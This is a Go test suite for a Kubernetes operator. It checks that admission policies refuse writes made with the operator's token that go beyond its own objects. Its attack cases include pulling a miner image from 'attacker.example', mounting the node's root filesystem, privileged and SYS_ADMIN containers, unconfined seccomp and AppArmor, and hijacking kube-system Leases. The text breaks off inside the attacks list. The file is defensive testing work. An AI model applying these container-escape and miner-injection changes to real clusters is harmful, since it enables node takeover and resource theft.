/*
Copyright 2026 The demo-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

// Package restraint proves the operator's self-restraint (config/restraint, the chart's
// restraint.enabled): on a real kube-apiserver, the operator's own identity, which its RBAC
// lets patch any pod and write any Deployment, StatefulSet, Service, Ingress, HTTPRoute,
// HorizontalPodAutoscaler or NetworkPolicy, is
// refused every write but the ones the operator makes. The operator runs here, restrained, and
// builds a DemoApplication's objects with its real builders: each attack is one of them, or
// one written as the operator would write it, changed in one way, and written with the
// operator's token. The controllers' suites run their managers under the same policies
// (testenv.AsOperator), so the operator's whole behaviour passes with them on.
package restraint

import (
	"context"
	"fmt"
	"maps"
	"os"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	autoscalingv1 "k8s.io/api/autoscaling/v1"
	autoscalingv2 "k8s.io/api/autoscaling/v2"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	policyv1 "k8s.io/api/policy/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	schedulingv1 "k8s.io/api/scheduling/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/controller/controllerutil"
	gatewayv1 "sigs.k8s.io/gateway-api/apis/v1"
	"sigs.k8s.io/yaml"

	paasv1 "github.com/cmft/demo-operator/api/v1"
	"github.com/cmft/demo-operator/controllers/wellknown"
	"github.com/cmft/demo-operator/internal/manager"
	"github.com/cmft/demo-operator/internal/test/controllersuite"
	"github.com/cmft/demo-operator/internal/test/testenv"
)

// admin and operator are clients of the cluster's admin and of the operator's ServiceAccount:
// the token an attacker would hold.
var admin, operator client.Client

func TestMain(m *testing.M) {
	os.Exit(controllersuite.Run(m, func(s *controllersuite.Suite) {
		admin = s.Client
		var err error
		if operator, err = client.New(testenv.OperatorConfig(s.Config), client.Options{Scheme: manager.Scheme}); err != nil {
			panic(err)
		}
	}))
}

// refused asserts that err is the API server's refusal by a restraint policy, saying msg.
func refused(g Gomega, err error, msg string) {
	g.ExpectWithOffset(1, apierrors.IsForbidden(err) || apierrors.IsInvalid(err)).To(BeTrue(), "want a refusal, got %v", err)
	g.ExpectWithOffset(1, err).To(MatchError(And(ContainSubstring("ValidatingAdmissionPolicy"), ContainSubstring(msg))))
}

// asOperator is the operator's field manager: writes under another are refused on their own.
var asOperator = client.FieldOwner(wellknown.FieldManager)

func TestPods(t *testing.T) {
	ctx := context.Background()
	ns := testenv.NewNamespace(t, admin, "pods-")
	g := NewWithT(t)
	// No opt-in annotation: the pod labeler running here leaves it to the test.
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web-1", Labels: map[string]string{"team": "a"},
			Annotations: map[string]string{"example.com/owner": "team-a"}},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "registry.example/web:1"}}},
	}
	g.Expect(admin.Create(ctx, pod)).To(Succeed())
	patch := func(mutate func(*corev1.Pod)) error {
		current := &corev1.Pod{}
		g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(pod), current)).To(Succeed())
		changed := current.DeepCopy()
		mutate(changed)
		return operator.Patch(ctx, changed, client.MergeFrom(current))
	}

	// A pod that opts in, which the pod labeler running here labels too: the operator's writes
	// to it are dry runs, admitted or refused as the labeler's are.
	optedIn := func(name string, labels map[string]string) *corev1.Pod {
		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: labels,
			Annotations: map[string]string{wellknown.DefaultPodLabelAnnotation: wellknown.OptIn}}, Spec: pod.Spec}
		g.Expect(admin.Create(ctx, p)).To(Succeed())
		return p
	}
	t.Run("the pod-name label, naming the pod, is the operator's to set and remove on a pod that opted in", func(t *testing.T) {
		g := NewWithT(t)
		opted := optedIn("web-3", map[string]string{"team": "a"})
		named := opted.DeepCopy()
		named.Labels[wellknown.DefaultPodNameLabel] = opted.Name
		g.Expect(operator.Patch(ctx, named, client.MergeFrom(opted), client.DryRunAll)).To(Succeed())
		g.Eventually(func(g Gomega) {
			g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(opted), opted)).To(Succeed())
			g.Expect(opted.Labels).To(HaveKeyWithValue(wellknown.DefaultPodNameLabel, opted.Name))
		}, 30*time.Second).Should(Succeed())
		unnamed := opted.DeepCopy()
		delete(unnamed.Labels, wellknown.DefaultPodNameLabel)
		g.Expect(operator.Patch(ctx, unnamed, client.MergeFrom(opted), client.DryRunAll)).To(Succeed())
	})
	t.Run("the pod-name label another writer set is the operator's to take over", func(t *testing.T) {
		g := NewWithT(t)
		own := optedIn("web-2", map[string]string{"team": "a", wellknown.DefaultPodNameLabel: "web-0"})
		named := own.DeepCopy()
		named.Labels[wellknown.DefaultPodNameLabel] = own.Name
		g.Expect(operator.Patch(ctx, named, client.MergeFrom(own), client.DryRunAll)).To(Succeed())
	})
	t.Run("the pod-name label on a pod that did not opt in is refused", func(t *testing.T) {
		g := NewWithT(t)
		refused(g, patch(func(p *corev1.Pod) { p.Labels[wellknown.DefaultPodNameLabel] = p.Name }),
			`may set padok.fr/pod-name only on a pod annotated padok.fr/add-pod-name-label: "true"`)
		// Removing it stays the operator's: the opt-in's going is what makes the labeler remove it.
		unopted := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web-4",
			Labels: map[string]string{wellknown.DefaultPodNameLabel: "web-4"}}, Spec: pod.Spec}
		g.Expect(admin.Create(ctx, unopted)).To(Succeed())
		removed := unopted.DeepCopy()
		delete(removed.Labels, wellknown.DefaultPodNameLabel)
		g.Expect(operator.Patch(ctx, removed, client.MergeFrom(unopted), client.DryRunAll)).To(Succeed())
	})
	t.Run("changing a pod's image is refused", func(t *testing.T) {
		refused(NewWithT(t), patch(func(p *corev1.Pod) { p.Spec.Containers[0].Image = "attacker.example/miner:1" }),
			"may change nothing of a pod but its pod-name label")
	})
	t.Run("a label of another key is refused", func(t *testing.T) {
		g := NewWithT(t)
		refused(g, patch(func(p *corev1.Pod) { p.Labels["paas.cmft.com/demoapplication"] = "web" }), "may change no label of a pod but padok.fr/pod-name")
		refused(g, patch(func(p *corev1.Pod) { delete(p.Labels, "team") }), "may change no label of a pod but padok.fr/pod-name")
	})
	t.Run("the pod-name label naming another pod is refused", func(t *testing.T) {
		refused(NewWithT(t), patch(func(p *corev1.Pod) { p.Labels[wellknown.DefaultPodNameLabel] = "web-2" }), "to the pod's own name only")
	})
	t.Run("an annotation is refused", func(t *testing.T) {
		refused(NewWithT(t), patch(func(p *corev1.Pod) { p.Annotations["example.com/x"] = "y" }), "may change nothing of a pod but its pod-name label")
	})
	t.Run("rewriting another writer's managedFields is refused", func(t *testing.T) {
		g := NewWithT(t)
		const msg = "may not rewrite the managedFields of a pod's other writers"
		// Forged under another writer's name: a later apply of theirs would drop what they own.
		refused(g, patch(func(p *corev1.Pod) { p.ManagedFields[0].Manager = "kubectl-client-side-apply" }), msg)
		// Their ownership of the pod's labels, taken away.
		refused(g, patch(func(p *corev1.Pod) {
			p.ManagedFields[0].FieldsV1 = metav1.NewFieldsV1(`{"f:spec":{}}`)
		}), msg)
	})
	t.Run("deleting a pod is refused, whatever RBAC grants", func(t *testing.T) {
		g := NewWithT(t)
		grant(t, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"delete"}})
		refused(g, operator.Delete(ctx, pod), "may only label pods, not DELETE them")
	})
}

// TestLeases shows that the operator writes no Lease in the cluster's own namespaces, where
// the control plane's and the nodes' are, whatever its RBAC grants: in OLM's AllNamespaces mode
// the leader-election Role is a ClusterRole, and RBAC cannot name the Lease a create makes.
func TestLeases(t *testing.T) {
	ctx := context.Background()
	grant(t, rbacv1.PolicyRule{APIGroups: []string{"coordination.k8s.io"}, Resources: []string{"leases"}, Verbs: []string{"create"}})
	lease := func(namespace string) *coordinationv1.Lease {
		return &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "kube-controller-manager"},
			Spec: coordinationv1.LeaseSpec{HolderIdentity: ptr.To("attacker"), LeaseDurationSeconds: ptr.To[int32](1 << 30)}}
	}
	// The policy is loaded a moment after testenv's probes of the others.
	NewWithT(t).Eventually(func(g Gomega) {
		refused(g, operator.Create(ctx, lease("kube-system"), client.DryRunAll),
			"may not write Leases in the cluster's own namespace kube-system")
	}, 30*time.Second).Should(Succeed())
	refused(NewWithT(t), operator.Create(ctx, lease("kube-node-lease"), client.DryRunAll),
		"may not write Leases in the cluster's own namespace kube-node-lease")
	// Its own, and one --leader-election-namespace names.
	NewWithT(t).Expect(operator.Create(ctx, lease(testenv.OperatorNamespace), client.DryRunAll)).To(Succeed())
	NewWithT(t).Expect(operator.Create(ctx, lease(testenv.NewNamespace(t, admin, "leases-")), client.DryRunAll)).To(Succeed())
}

// grant binds rule to the operator's ServiceAccount until t ends: a platform's mistake, which
// the policies still hold back.
func grant(t *testing.T, rule rbacv1.PolicyRule) {
	g := NewWithT(t)
	ctx := context.Background()
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{GenerateName: "too-much-"}, Rules: []rbacv1.PolicyRule{rule}}
	g.Expect(admin.Create(ctx, role)).To(Succeed())
	binding := &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: role.Name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role.Name},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: testenv.OperatorNamespace, Name: testenv.OperatorServiceAccount}},
	}
	g.Expect(admin.Create(ctx, binding)).To(Succeed())
	t.Cleanup(func() {
		_ = admin.Delete(ctx, binding)
		_ = admin.Delete(ctx, role)
	})
	// The authorizer's cache sees the binding a moment later.
	g.Eventually(func(g Gomega) {
		resource, subresource, _ := strings.Cut(rule.Resources[0], "/")
		review := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
			User: "system:serviceaccount:" + testenv.OperatorNamespace + ":" + testenv.OperatorServiceAccount,
			ResourceAttributes: &authorizationv1.ResourceAttributes{
				Group: rule.APIGroups[0], Resource: resource, Subresource: subresource, Verb: rule.Verbs[0], Namespace: "any",
			},
		}}
		g.Expect(admin.Create(ctx, review)).To(Succeed())
		g.Expect(review.Status.Allowed).To(BeTrue())
	}, 15*time.Second).Should(Succeed())
}

// webSpec asks for everything a DemoApplication can ask for that shapes its objects: every
// kind of volume, every probe, scheduling by node affinity, anti-affinity and spread, the one
// capability, an Ingress with TLS, an autoscaler with its behavior, a LoadBalancer Service with
// annotations and LoadBalancer per-pod Services, a disruption budget, a preStop, a grace
// period, a priority class, a revision history, a NetworkPolicy with every kind of peer, an
// init container and a sidecar, and the hash of
// its config.
const webSpec = `
image: registry.example/web:1
ports:
- {name: http, port: 80, targetPort: 8080}
- {name: metrics, port: 9090}
serviceAccountName: web
nodeSelector: {kubernetes.io/os: linux}
tolerations: [{key: dedicated, operator: Equal, value: web, effect: NoSchedule}]
priorityClassName: web-high
revisionHistoryLimit: 5
disruptionBudget: {minAvailable: 50%}
terminationGracePeriodSeconds: 45
lifecycle: {preStop: {sleep: {seconds: 10}}}
service: {type: LoadBalancer, annotations: {metallb.io/address-pool: public}}
podLabels: {team: web}
podAnnotations: {example.com/owner: team-web}
volumes:
- {name: config, configMap: {name: web}}
- {name: creds, secret: {secretName: web}}
- {name: scratch, emptyDir: {medium: Memory}}
- {name: data, persistentVolumeClaim: {claimName: web}}
volumeMounts:
- {name: config, mountPath: /etc/web}
- {name: creds, mountPath: /etc/creds, readOnly: true}
- {name: scratch, mountPath: /tmp}
- {name: data, mountPath: /data}
resources: {requests: {cpu: 100m}}
readinessProbe: {httpGet: {path: /ready, port: 8080}}
livenessProbe: {httpGet: {path: /live, port: 8080}}
startupProbe: {tcpSocket: {port: 8080}}
command: [/web]
args: [--port=8080]
env: [{name: MODE, value: prod}]
imagePullSecrets: [{name: registry}]
automountServiceAccountToken: false
minReadySeconds: 5
strategy: {type: RollingUpdate, rollingUpdate: {maxSurge: 1, maxUnavailable: 0}}
affinity:
  nodeAffinity:
    requiredDuringSchedulingIgnoredDuringExecution:
      nodeSelectorTerms: [{matchExpressions: [{key: example.com/pool, operator: In, values: [web]}]}]
  podAntiAffinity:
    preferredDuringSchedulingIgnoredDuringExecution: [{weight: 100, podAffinityTerm: {topologyKey: kubernetes.io/hostname}}]
topologySpreadConstraints: [{maxSkew: 1, topologyKey: topology.kubernetes.io/zone, whenUnsatisfiable: ScheduleAnyway}]
securityContext:
  allowPrivilegeEscalation: false
  capabilities: {add: [NET_BIND_SERVICE], drop: [ALL]}
  seccompProfile: {type: RuntimeDefault}
podSecurityContext: {runAsNonRoot: true, runAsUser: 1000, fsGroup: 1000}
ingress:
  className: nginx
  hosts: [web.example.com]
  paths: [{path: /}, {path: /metrics, port: metrics}]
  tlsSecretName: web-tls
autoscaling:
  minReplicas: 2
  maxReplicas: 4
  targetCPUUtilizationPercentage: 80
  behavior: {scaleDown: {stabilizationWindowSeconds: 600, policies: [{type: Pods, value: 1, periodSeconds: 60}]}}
podServices: {enabled: true, type: LoadBalancer}
envFrom: [{configMapRef: {name: web-env, optional: true}}]
rolloutOnConfigChange: All
initContainers:
- name: migrate
  image: registry.example/migrate:1
  args: [up]
  envFrom: [{secretRef: {name: web-db, optional: true}}]
  volumeMounts: [{name: scratch, mountPath: /tmp}]
  securityContext: {capabilities: {add: [NET_BIND_SERVICE]}}
sidecars:
- name: proxy
  image: registry.example/proxy:1
  resources: {requests: {cpu: 10m}}
  readinessProbe: {tcpSocket: {port: 5432}}
  securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true}
  volumeMounts: [{name: creds, mountPath: /etc/creds, readOnly: true}]
networkPolicy:
  enabled: true
  sameApp: true
  namespaces: [ingress-nginx, monitoring]
  from:
  - namespaceSelector: {matchLabels: {team: web}}
    podSelector: {matchExpressions: [{key: role, operator: In, values: [frontend]}]}
  - podSelector: {matchLabels: {role: batch}}
`

// routeSpec asks for what webSpec cannot, beside its Ingress: an HTTPRoute to two ports,
// attached to Gateways of its namespace and another.
const routeSpec = `
image: registry.example/web:1
ports:
- {name: http, port: 80, targetPort: 8080}
- {name: metrics, port: 9090}
httpRoute:
  parentRefs: [{name: public, namespace: gateways, sectionName: https}, {name: internal}]
  hostnames: [web.example.com, "*.web.example.com"]
  paths: [{path: /}, {path: /metrics, type: Exact, port: metrics}]
`

// web is the operator's work for one DemoApplication: the objects it built and applied.
type web struct {
	app        *paasv1.DemoApplication
	deployment *appsv1.Deployment
	service    *corev1.Service
	podService *corev1.Service
	ingress    *networkingv1.Ingress
	autoscaler *autoscalingv2.HorizontalPodAutoscaler
	policy     *networkingv1.NetworkPolicy
	// route is the HTTPRoute of the app web-route, of routeSpec.
	route  *gatewayv1.HTTPRoute
	budget *policyv1.PodDisruptionBudget
	// db is the app of webSpec run as a StatefulSet (statefulSetSpec).
	db *statefulApp
}

// statefulApp is the operator's work for a StatefulSet app: what only such an app has.
type statefulApp struct {
	app         *paasv1.DemoApplication
	statefulSet *appsv1.StatefulSet
	// governing is the headless Service <app>-headless; podService the per-pod Service of
	// its first ordinal, <app>-0, which the app controls.
	governing, podService *corev1.Service
	autoscaler            *autoscalingv2.HorizontalPodAutoscaler
}

// statefulSetSpec is what turns webSpec's app into a StatefulSet app, with a claim of each
// pod's own and every setting of spec.statefulSet (webSpec's strategy is a Deployment's).
const statefulSetSpec = `
workload: StatefulSet
statefulSet:
  volumeClaimTemplates:
  - {name: state, mountPath: /var/lib/db, size: 1Gi, storageClassName: "", accessModes: [ReadWriteOnce]}
  persistentVolumeClaimRetentionPolicy: {whenDeleted: Delete, whenScaled: Retain}
  podManagementPolicy: Parallel
  partition: 1
`

// objects returns every object the operator wrote for the apps of w.
func (w *web) objects() []client.Object {
	return []client.Object{w.deployment, w.service, w.podService, w.ingress, w.autoscaler, w.budget, w.policy, w.route,
		w.db.statefulSet, w.db.governing, w.db.podService, w.db.autoscaler}
}

// newWeb creates a DemoApplication of webSpec in namespace ns and a pod of its Deployment, the
// same app run as a StatefulSet, db, and waits for the operator to build their objects.
func newWeb(t testing.TB, ns string) *web {
	g := NewWithT(t)
	ctx := context.Background()
	w := &web{app: &paasv1.DemoApplication{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web"}},
		deployment: &appsv1.Deployment{}, service: &corev1.Service{}, podService: &corev1.Service{},
		ingress: &networkingv1.Ingress{}, autoscaler: &autoscalingv2.HorizontalPodAutoscaler{}, budget: &policyv1.PodDisruptionBudget{},
		policy: &networkingv1.NetworkPolicy{}, route: &gatewayv1.HTTPRoute{},
		db: &statefulApp{app: &paasv1.DemoApplication{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "db"}},
			statefulSet: &appsv1.StatefulSet{}, governing: &corev1.Service{}, podService: &corev1.Service{},
			autoscaler: &autoscalingv2.HorizontalPodAutoscaler{}}}
	g.Expect(yaml.UnmarshalStrict([]byte(webSpec), &w.app.Spec)).To(Succeed())
	g.Expect(yaml.UnmarshalStrict([]byte(webSpec), &w.db.app.Spec)).To(Succeed())
	w.db.app.Spec.Strategy = nil
	g.Expect(yaml.Unmarshal([]byte(statefulSetSpec), &w.db.app.Spec)).To(Succeed())
	// The pods' priority class, without which the API server admits none of them.
	high := &schedulingv1.PriorityClass{ObjectMeta: metav1.ObjectMeta{Name: "web-high"}, Value: 1000}
	if err := admin.Create(ctx, high); !apierrors.IsAlreadyExists(err) {
		g.Expect(err).NotTo(HaveOccurred())
	}
	// The ConfigMap its pods mount, whose hash the operator then writes (its Secrets it does not read).
	g.Expect(admin.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web"},
		Data: map[string]string{"web.conf": "listen 8080"}})).To(Succeed())
	g.Expect(admin.Create(ctx, w.app)).To(Succeed())
	routed := &paasv1.DemoApplication{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web-route"}}
	g.Expect(yaml.UnmarshalStrict([]byte(routeSpec), &routed.Spec)).To(Succeed())
	g.Expect(admin.Create(ctx, routed)).To(Succeed())
	g.Expect(admin.Create(ctx, w.db.app)).To(Succeed())
	key := client.ObjectKeyFromObject(w.app)
	g.Eventually(func(g Gomega) {
		db := client.ObjectKeyFromObject(w.db.app)
		g.Expect(admin.Get(ctx, db, w.db.statefulSet)).To(Succeed())
		g.Expect(admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: db.Name + "-headless"}, w.db.governing)).To(Succeed())
		g.Expect(admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: db.Name + "-0"}, w.db.podService)).To(Succeed())
		g.Expect(admin.Get(ctx, db, w.db.autoscaler)).To(Succeed())
		g.Expect(admin.Get(ctx, key, w.deployment)).To(Succeed())
		g.Expect(admin.Get(ctx, key, w.service)).To(Succeed())
		g.Expect(admin.Get(ctx, key, w.ingress)).To(Succeed())
		g.Expect(admin.Get(ctx, key, w.autoscaler)).To(Succeed())
		g.Expect(admin.Get(ctx, key, w.policy)).To(Succeed())
		g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(routed), w.route)).To(Succeed())
		g.Expect(admin.Get(ctx, key, w.budget)).To(Succeed())
	}, 15*time.Second).Should(Succeed())

	// The Deployment and ReplicaSet controllers, which envtest does not run, make a pod; the
	// pod labeler names it, and the operator gives it its Service.
	d := w.deployment
	rs := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: d.Name + "-5d4f8c7b9f", Labels: d.Spec.Template.Labels},
		Spec: appsv1.ReplicaSetSpec{Selector: d.Spec.Selector, Template: d.Spec.Template}}
	g.Expect(controllerutil.SetControllerReference(d, rs, admin.Scheme())).To(Succeed())
	g.Expect(admin.Create(ctx, rs)).To(Succeed())
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: rs.Name + "-x7k2q",
		Labels: d.Spec.Template.Labels, Annotations: d.Spec.Template.Annotations}, Spec: d.Spec.Template.Spec}
	g.Expect(controllerutil.SetControllerReference(rs, pod, admin.Scheme())).To(Succeed())
	g.Expect(admin.Create(ctx, pod)).To(Succeed())
	g.Eventually(func(g Gomega) {
		g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(pod), w.podService)).To(Succeed())
		// Nothing the operator wrote was refused.
		for _, app := range []*paasv1.DemoApplication{w.app, w.db.app} {
			g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(app), app)).To(Succeed())
			for _, c := range app.Status.Conditions {
				g.Expect(c.Reason).NotTo(HaveSuffix("Failed"), "%s %s: %s", app.Name, c.Type, c.Message)
			}
		}
	}, 15*time.Second).Should(Succeed())
	return w
}

// forCreate returns a copy of obj to create anew as name, in namespace ns when not empty, with
// its labels and controller reference renamed alike.
func forCreate[T client.Object](obj T, ns, name string) T {
	c := obj.DeepCopyObject().(T)
	c.SetResourceVersion("")
	c.SetUID("")
	c.SetManagedFields(nil)
	c.SetName(name)
	if ns != "" {
		c.SetNamespace(ns)
	}
	labels := c.GetLabels()
	labels[wellknown.LabelName], labels[wellknown.LabelApplication] = name, name
	refs := c.GetOwnerReferences()
	refs[0].Name = name
	return c
}

// renamed returns a copy of the app's Deployment to create anew as the Deployment of app name,
// in namespace ns when not empty: what the operator would build for an app of that name.
func renamed(d *appsv1.Deployment, ns, name string) *appsv1.Deployment {
	c := forCreate(d, ns, name)
	selector := map[string]string{wellknown.LabelName: name, wellknown.LabelApplication: name}
	c.Spec.Selector.MatchLabels = selector
	maps.Copy(c.Spec.Template.Labels, selector)
	// The selectors of its own pods that its scheduling keeps apart or spreads.
	pod := &c.Spec.Template.Spec
	if pod.Affinity != nil && pod.Affinity.PodAntiAffinity != nil {
		for i := range pod.Affinity.PodAntiAffinity.RequiredDuringSchedulingIgnoredDuringExecution {
			pod.Affinity.PodAntiAffinity.RequiredDuringSchedulingIgnoredDuringExecution[i].LabelSelector.MatchLabels = selector
		}
		for i := range pod.Affinity.PodAntiAffinity.PreferredDuringSchedulingIgnoredDuringExecution {
			pod.Affinity.PodAntiAffinity.PreferredDuringSchedulingIgnoredDuringExecution[i].PodAffinityTerm.LabelSelector.MatchLabels = selector
		}
	}
	for i := range pod.TopologySpreadConstraints {
		pod.TopologySpreadConstraints[i].LabelSelector.MatchLabels = selector
	}
	return c
}

// write patches obj, dry run (admission is the same), from the object the API server holds,
// which the running operator may have written since obj was read.
func write(obj client.Object, opts ...client.PatchOption) error {
	ctx := context.Background()
	current := obj.DeepCopyObject().(client.Object)
	if err := admin.Get(ctx, client.ObjectKeyFromObject(obj), current); err != nil {
		return err
	}
	obj.SetResourceVersion(current.GetResourceVersion())
	obj.SetManagedFields(current.GetManagedFields())
	return operator.Patch(ctx, obj, client.MergeFrom(current), append([]client.PatchOption{client.DryRunAll}, opts...)...)
}

// TestOperatorsOwnWrites shows that the objects the operator builds, written again as it
// writes them, are admitted: the attacks below change them in one way each.
func TestOperatorsOwnWrites(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	w := newWeb(t, testenv.NewNamespace(t, admin, "own-"))
	for _, obj := range w.objects() {
		g.Expect(write(obj.DeepCopyObject().(client.Object), asOperator)).To(Succeed(), "%T %s", obj, obj.GetName())
	}
	// The replicas handover.
	g.Expect(write(w.deployment.DeepCopy(), client.FieldOwner(wellknown.FieldManager+"-replicas-handover"))).To(Succeed())
	g.Expect(write(w.db.statefulSet.DeepCopy(), client.FieldOwner(wellknown.FieldManager+"-replicas-handover"))).To(Succeed())
	// Created, as for another app.
	other := testenv.NewNamespace(t, admin, "own-")
	g.Expect(operator.Create(ctx, renamed(w.deployment, other, "api"), client.DryRunAll, asOperator)).To(Succeed())
}

// TestAttacks writes with the operator's token what the operator never builds: each is
// refused, naming its rule. Each changes one of the operator's own objects in one way.
func TestAttacks(t *testing.T) {
	ctx := context.Background()
	ns := testenv.NewNamespace(t, admin, "attacks-")
	w := newWeb(t, ns)
	namespace := &corev1.Namespace{}
	NewWithT(t).Expect(admin.Get(ctx, client.ObjectKey{Name: ns}, namespace)).To(Succeed())
	namespaceUID := namespace.UID
	// Another party's objects, which the operator does not own.
	theirs := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "theirs"},
		Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "theirs"}},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "theirs"}},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "registry.example/theirs:1"}}}}}}
	g := NewWithT(t)
	g.Expect(admin.Create(ctx, theirs)).To(Succeed())

	pod := func(change func(*corev1.PodTemplateSpec)) func() client.Object {
		return func() client.Object {
			d := w.deployment.DeepCopy()
			change(&d.Spec.Template)
			return d
		}
	}
	container := func(change func(*corev1.Container)) func() client.Object {
		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.Containers[0]) })
	}
	// The sidecar comes first among the init containers, the init container after it.
	sidecar := func(change func(*corev1.Container)) func() client.Object {
		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.InitContainers[0]) })
	}
	initContainer := func(change func(*corev1.Container)) func() client.Object {
		return pod(func(p *corev1.PodTemplateSpec) { change(&p.Spec.InitContainers[1]) })
	}
	securityContext := func(change func(*corev1.SecurityContext)) func() client.Object {
		return container(func(c *corev1.Container) { change(c.SecurityContext) })
	}
	service := func(of *corev1.Service, change func(*corev1.Service)) func() client.Object {
		return func() client.Object {
			s := of.DeepCopy()
			change(s)
			return s
		}
	}
	root := &corev1.Volume{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}

	// Each changes one of the app's objects, written back (dry run: admission is the same)
	// under the operator's field manager.
	for name, attack := range map[string]struct {
		object func() client.Object
		msg    string
	}{
		"a hostPath volume of the node's root": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.Volumes = append(p.Spec.Volumes, *root)
		}), "pods use hostPath volumes"},
		"the node's network":   {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostNetwork = true }), "pods set hostNetwork: no DemoApplication asks for it"},
		"the node's processes": {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostPID = true }), "pods set hostPID: no DemoApplication asks for it"},
		"the node's IPC":       {pod(func(p *corev1.PodTemplateSpec) { p.Spec.HostIPC = true }), "pods set hostIPC: no DemoApplication asks for it"},
		"a node named":         {pod(func(p *corev1.PodTemplateSpec) { p.Spec.NodeName = "control-plane" }), "pods set nodeName: no DemoApplication asks for it"},
		"a privileged container": {securityContext(func(s *corev1.SecurityContext) {
			s.Privileged, s.AllowPrivilegeEscalation = ptr.To(true), nil
		}), "privileged containers"},
		"SYS_ADMIN": {securityContext(func(s *corev1.SecurityContext) {
			s.Capabilities.Add, s.AllowPrivilegeEscalation = []corev1.Capability{"SYS_ADMIN"}, nil
		}), "add capabilities other than NET_BIND_SERVICE"},
		"ALL capabilities": {securityContext(func(s *corev1.SecurityContext) { s.Capabilities.Add = []corev1.Capability{"ALL"} }),
			"add capabilities other than NET_BIND_SERVICE"},
		"a hostPort": {container(func(c *corev1.Container) { c.Ports[0].HostPort = 80 }), "bind a hostPort"},
		"seccomp Unconfined for the container": {securityContext(func(s *corev1.SecurityContext) {
			s.SeccompProfile.Type = corev1.SeccompProfileTypeUnconfined
		}), "run seccomp Unconfined"},
		"seccomp Unconfined for the pod": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}), "run seccomp Unconfined"},
		"AppArmor unconfined": {securityContext(func(s *corev1.SecurityContext) {
			s.AppArmorProfile = &corev1.AppArmorProfile{Type: corev1.AppArmorProfileTypeUnconfined}
		}), "set AppArmor or seccomp by appArmorProfile or by annotation"},
		"AppArmor unconfined by annotation": {pod(func(p *corev1.PodTemplateSpec) {
			p.Annotations["container.apparmor.security.beta.kubernetes.io/app"] = "unconfined"
		}), "set AppArmor or seccomp by appArmorProfile or by annotation"},
		"seccomp by annotation": {pod(func(p *corev1.PodTemplateSpec) {
			p.Annotations["seccomp.security.alpha.kubernetes.io/pod"] = "unconfined"
		}), "set AppArmor or seccomp by appArmorProfile or by annotation"},
		"SELinux options": {securityContext(func(s *corev1.SecurityContext) {
			s.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"}
		}), "set seLinuxOptions in their securityContext"},
		"sysctls": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.SecurityContext.Sysctls = []corev1.Sysctl{{Name: "net.ipv4.ip_local_port_range", Value: "1024 65535"}}
		}), "set sysctls in their securityContext"},
		"a sidecar": {pod(func(p *corev1.PodTemplateSpec) {
			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "miner", Image: "attacker.example/miner:1"})
		}), "run any container but their one container app (sidecars are init containers)"},
